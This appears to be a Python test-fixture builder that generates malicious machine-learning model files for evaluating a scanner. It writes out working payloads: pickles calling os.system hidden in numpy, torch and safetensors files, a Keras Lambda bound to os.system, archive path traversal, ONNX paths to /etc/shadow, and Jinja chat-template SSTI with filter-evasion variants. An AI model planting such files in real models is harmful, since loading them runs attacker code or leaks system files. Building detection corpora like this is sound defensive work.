    "zip_slip_backslash", "archive", "WW-ARC", "zip member '..\\\\..\\\\evil.bat' (Windows separators)"
)
def _zip_bs(ctx: BuildContext, folder: Path) -> None:
    write_zip(folder / "bundle.zip", {"model/config.json": b"{}", "..\\..\\evil.bat": b"echo pwned\r\n"})


@malicious("npy_structured_object_field", "numpy", "WW-PKL", ".npy structured dtype with an object field")
def _npy_struct(ctx: BuildContext, folder: Path) -> None:
    arr = np.zeros(2, dtype=[("score", "<f8"), ("meta", "O")])
    arr["meta"][1] = evil(ctx)
    np.save(folder / "records.npy", arr, allow_pickle=True)


@malicious("npy_format_v3_object", "numpy", "WW-PKL", ".npy format version 3.0 header, object array")
def _npy_v3(ctx: BuildContext, folder: Path) -> None:
    with open(folder / "array.npy", "wb") as f:
        np.lib.format.write_array(f, _object_array(ctx), version=(3, 0), allow_pickle=True)


@malicious(
    "keras_h5_lambda_module_function",
    "keras",
    "WW-KERAS",
    "Keras 2 Lambda with function_type 'function' = os.system",
)
def _h5_func(ctx: BuildContext, folder: Path) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": "system",
            "function_type": "function",
            "module": "os",
            "arguments": {},
        },
    }
    write_keras_h5(
        folder / "model.h5",
        keras2_sequential([keras2_dense(), lam]),
        {"dense": {"kernel": np.ones((4, 2), np.float32)}},
    )


@malicious("onnx_external_nested_dotdot", "onnx", "WW-ONNX", "external data 'weights/../../../etc/shadow'")
def _onnx_nested(ctx: BuildContext, folder: Path) -> None:
    _onnx_external(folder, "weights/../../../etc/shadow")


@malicious(
    "onnx_function_custom_domain", "onnx", "WW-ONNX", "model-local function whose body uses evil.domain"
)
def _onnx_fn(ctx: BuildContext, folder: Path) -> None:
    from onnx import TensorProto, helper

    body = [helper.make_node("Exec", ["a"], ["b"], domain="evil.domain")]
    fn = helper.make_function("local.fn", "Wrap", ["a"], ["b"], body, [helper.make_opsetid("evil.domain", 1)])
    graph = helper.make_graph(
        [helper.make_node("Wrap", ["X"], ["Y"], domain="local.fn")],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
    )
    opsets = [
        helper.make_opsetid("", 17),
        helper.make_opsetid("local.fn", 1),
        helper.make_opsetid("evil.domain", 1),
    ]
    model = helper.make_model(graph, functions=[fn], opset_imports=opsets)
    (folder / "model.onnx").write_bytes(model.SerializeToString())


@malicious(
    "tf_second_metagraph", "tf", "WW-TF", "benign 'serve' MetaGraphDef, WriteFile in a second 'train' one"
)
def _tf_second(ctx: BuildContext, folder: Path) -> None:
    first = pb.saved_model(pb.graph(_BASE_NODES))
    writer = [*_BASE_NODES, pb.node("c", "Const"), pb.node("w", "WriteFile", ("c", "c"))]
    second = pb.saved_model(pb.graph(writer), tags=("train",))
    # Both are SavedModel messages {1: version, 2: MetaGraphDef}; concatenating appends the 2nd MetaGraphDef.
    (folder / "variables").mkdir()
    (folder / "saved_model.pb").write_bytes(first + second[second.index(b"\x12") :])


def _ssti_extra(kind: str, ctx: BuildContext) -> str:
    cmd = ctx.shell()
    payload = {
        "join_filter": "{% set n = ['__cl', 'ass__']|join %}{% set m = ['__mr', 'o__']|join %}{{ (()|attr(n)|attr(m))[1] }}",
        "reverse_filter": "{% set n = '__ssalc__'|reverse %}{{ ''|attr(n) }}",
        "subscript_concat": "{{ ()['__cla' + 'ss__']['__ba' + 'se__']['__subcla' + 'sses__']() }}",
        "hex_escape": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f']['\\x5f\\x5fmro\\x5f\\x5f'][1]['\\x5f\\x5fsubclasses\\x5f\\x5f']() }}",
        "self_context": "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('"
        + cmd
        + "').read() }}",
        "format_filter": "{% set u = '%c%c'|format(95, 95) %}{{ ''|attr(u ~ 'class' ~ u) }}",
    }[kind]
    return "{%- if messages %}" + payload + "{%- endif %}" + _CHATML


for _kind in (
    "join_filter",
    "reverse_filter",
    "subscript_concat",
    "hex_escape",
    "self_context",
    "format_filter",
):

    def _hf_extra(kind: str = _kind):
        def build(ctx: BuildContext, folder: Path) -> None:
            (folder / "tokenizer_config.json").write_bytes(_tokenizer_config(_ssti_extra(kind, ctx)))

        return build

    malicious(f"hf_ssti_{_kind}", "hf", "WW-TPL", f"tokenizer_config chat_template SSTI evasion: {_kind}")(
        _hf_extra()
    )


@malicious(
    "torch_zip_deflated_data_pkl", "pytorch", "WW-PKL", "torch zip re-packed with deflate-compressed members"
)
def _torch_deflate(ctx: BuildContext, folder: Path) -> None:
    src = torch_save(_poisoned_state(ctx), ctx.dest / ".scratch" / f"{ctx.name}.pt")
    with zipfile.ZipFile(src) as zin:
        members = {info.filename: zin.read(info) for info in zin.infolist()}
    write_zip(folder / "model.pt", members, zipfile.ZIP_DEFLATED)


@malicious(
    "keras_zip_prepended_junk",
    "keras",
    "WW-KERAS",
    ".keras zip with 4 KiB prepended (zipfile still opens it)",
)
def _keras_junk(ctx: BuildContext, folder: Path) -> None:
    inner = write_keras_zip(
        ctx.dest / ".scratch" / f"{ctx.name}.keras", keras3_sequential([keras3_dense(), _keras3_lambda(ctx)])
    )
    (folder / "model.keras").write_bytes(b"\x00JUNK" * 819 + b"\x00" + inner.read_bytes())


@malicious("hf_chat_template_json_ssti", "hf", "WW-TPL", "processor chat_template.json with an SSTI template")
def _hf_ct_json(ctx: BuildContext, folder: Path) -> None:
    (folder / "chat_template.json").write_text(json.dumps({"chat_template": _ssti("mro_subclasses", ctx)}))
    (folder / "preprocessor_config.json").write_text(json.dumps({"processor_class": "LlavaProcessor"}))


@malicious(
    "torch_legacy_tar_format",
    "pytorch",
    "WW-PKL",
    "oldest torch.save tar format (sys_info/pickle/storages/tensors)",
)
def _torch_tar(ctx: BuildContext, folder: Path) -> None:
    import pickle

    write_tar(
        folder / "model.pth",
        {
            "sys_info": pickle.dumps(
                {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}, protocol=2
            ),
            "pickle": pickle.dumps({"state": evil(ctx)}, protocol=2),
            "storages": pickle.dumps(0, protocol=2),
            "tensors": pickle.dumps(0, protocol=2),
        },
    )


@malicious(
    "torch_legacy_payload_in_sys_info",
    "pytorch",
    "WW-PKL",
    "legacy torch file whose sys_info stream is the payload",
)
def _torch_sysinfo(ctx: BuildContext, folder: Path) -> None:
    import pickle

    legacy = torch_save(tiny_state_dict(), ctx.dest / ".scratch" / f"{ctx.name}.pt", legacy=True).read_bytes()
    # Streams: magic number, protocol version, sys_info, then the object. torch.load unpickles all of them.
    magic_end = legacy.index(b".") + 1
    proto_end = legacy.index(b".", magic_end) + 1
    sys_info_end = legacy.index(b".", legacy.index(b"little_endian", proto_end)) + 1
    evil_sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": evil(ctx)}, protocol=2)
    (folder / "model.pt").write_bytes(legacy[:proto_end] + evil_sys_info + legacy[sys_info_end:])


@malicious(
    "st_leading_gap", "safetensors", "WW-ST", "first tensor starts after unused bytes that hide a pickle"
)
def _st_lead(ctx: BuildContext, folder: Path) -> None:
    hidden = call_program(2, Glob("os", "system"), ctx.shell())
    pad = len(hidden) + (-len(hidden) % 4)
    _st(folder, {"a": {**_F32x4, "data_offsets": [pad, pad + 16]}}, hidden.ljust(pad, b"\x00") + bytes(16))


@malicious(
    "st_trailing_bytes", "safetensors", "WW-ST", "bytes after the last tensor (a pickle appended to the file)"
)
def _st_trail(ctx: BuildContext, folder: Path) -> None:
    hidden = call_program(2, Glob("os", "system"), ctx.shell())
    _st(folder, {"a": {**_F32x4, "data_offsets": [0, 16]}}, bytes(16) + hidden)


@malicious("st_duplicate_tensor_name", "safetensors", "WW-ST", "header JSON names the same tensor twice")
def _st_dup(ctx: BuildContext, folder: Path) -> None:
    header = b'{"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "a": {"dtype": "F32", "shape": [4], "data_offsets": [16, 32]}}'
    _st(folder, header, bytes(32))


@malicious(
    "tar_pax_path_traversal", "archive", "WW-ARC", "PAX header 'path' overriding a harmless name with ../../"
)
def _tar_pax(ctx: BuildContext, folder: Path) -> None:
    data = b"#!/bin/sh\n"
    with tarfile.open(folder / "bundle.tar", "w", format=tarfile.PAX_FORMAT) as tf:
        info = tarfile.TarInfo("model/config.json")
        info.size = len(data)
        info.pax_headers = {"path": "../../../../tmp/evil.sh"}
        tf.addfile(info, io.BytesIO(data))


@malicious("fs_symlink_dir_outside", "fs", "WW-FS", "symlinked folder pointing outside the model folder")
def _fs_dir(ctx: BuildContext, folder: Path) -> None:
    _st_benign(folder)
    os.symlink("/usr/lib", folder / "extra_weights")
